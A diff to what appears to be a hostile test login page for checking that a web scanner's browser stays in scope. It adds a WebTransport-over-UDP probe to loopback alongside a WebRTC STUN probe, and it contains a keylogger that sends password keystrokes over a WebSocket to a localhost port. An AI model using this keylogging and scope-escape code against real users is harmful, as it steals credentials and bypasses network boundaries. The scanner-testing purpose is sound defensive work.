@@ -1,6 +1,6 @@
 // A login page that turns against the browser the scanner logs in with. Its form is served without a
 // charset (Chromium then posts it in windows-1252: ü as %FC); its script tries every way out of the
-// scan's scope the issue names: WebRTC's STUN over UDP to a loopback port, a keylogger that sends each
+// scan's scope the issue names: WebRTC's STUN (and WebTransport's QUIC) over UDP to a loopback port, a keylogger that sends each
 // keystroke of the password over a WebSocket to ws://localhost:<another port>, an image that
 // redirects to another port of the same host, and optionally a 307 that re-posts the typed form to
 // another origin. The check page can draw the session id in the ways a screenshot check must see or
@@ -83,6 +83,8 @@ try {
   pc.createDataChannel('x')
   pc.createOffer().then((o) => pc.setLocalDescription(o))
 } catch (e) {}
+// WebTransport is QUIC, over UDP too
+try { new WebTransport('https://127.0.0.1:${udpPort}/').ready.catch(() => {}) } catch (e) {}
 document.querySelector('input[type=password]').addEventListener('input', (e) => {
   try {
     const ws = new WebSocket('ws://localhost:${elsewherePort}/keys')
